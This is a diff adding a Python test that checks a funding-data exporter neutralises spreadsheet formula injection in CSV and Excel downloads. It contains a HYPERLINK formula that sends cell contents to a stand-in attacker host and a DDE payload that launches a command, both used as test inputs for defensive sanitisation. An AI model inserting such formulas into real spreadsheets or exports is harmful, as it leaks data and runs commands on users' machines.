@@ -34,3 +34,33 @@ def test_excel_workbook_opens_with_notes_and_inert_cells():
     assert rows["A2"].value == "'=cmd|' /C calc'!A0" and rows["A2"].data_type == "s"
     assert rows["B3"].value == 98750
     assert rows.freeze_panes == "A2"
+
+
+HOSPITAL = "Smart Green Hospital Network: leveraging technology to upgrade Cambodian healthcare"
+MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
+
+
+def test_a_malicious_project_title_leaves_the_funding_downloads_inert(data_copy):
+    """End to end: a title planted in projects.csv passes validation, but is never run as a formula once exported."""
+    from usascp import aggregate
+    from usascp.load import load_dataset
+
+    data_copy.replace("projects", HOSPITAL, MALICIOUS.replace('"', '""').join('""'))
+    dataset = load_dataset(data_copy.folder)
+    assert MALICIOUS in set(dataset.projects["title"])  # kept as the text it is
+    rows = aggregate.funding_rows(dataset, aggregate.select_projects(dataset))
+
+    csv_rows = pd.read_csv(io.BytesIO(csv_bytes(rows)), encoding="utf-8-sig", dtype=str)
+    planted = csv_rows[csv_rows["project_id"] == "khm_hospital_digitization"]
+    assert planted["project"].tolist() == ["'" + MALICIOUS]
+    assert planted["amount_usd"].astype(float).tolist() == [98750.0]
+    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in csv_rows.to_numpy().ravel() if isinstance(cell, str))
+
+    workbook = openpyxl.load_workbook(io.BytesIO(excel_bytes({"Funding rows": rows}, ["Filters: all"])))
+    sheet = workbook["Funding rows"]
+    header = [cell.value for cell in sheet[1]]
+    cells = [row[header.index("project")] for row in sheet.iter_rows(min_row=2)]
+    evil = [cell for cell in cells if cell.value and "HYPERLINK" in cell.value]
+    assert [cell.value for cell in evil] == ["'" + MALICIOUS]
+    assert evil[0].data_type == "s"  # a string cell, not a formula ("f")
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
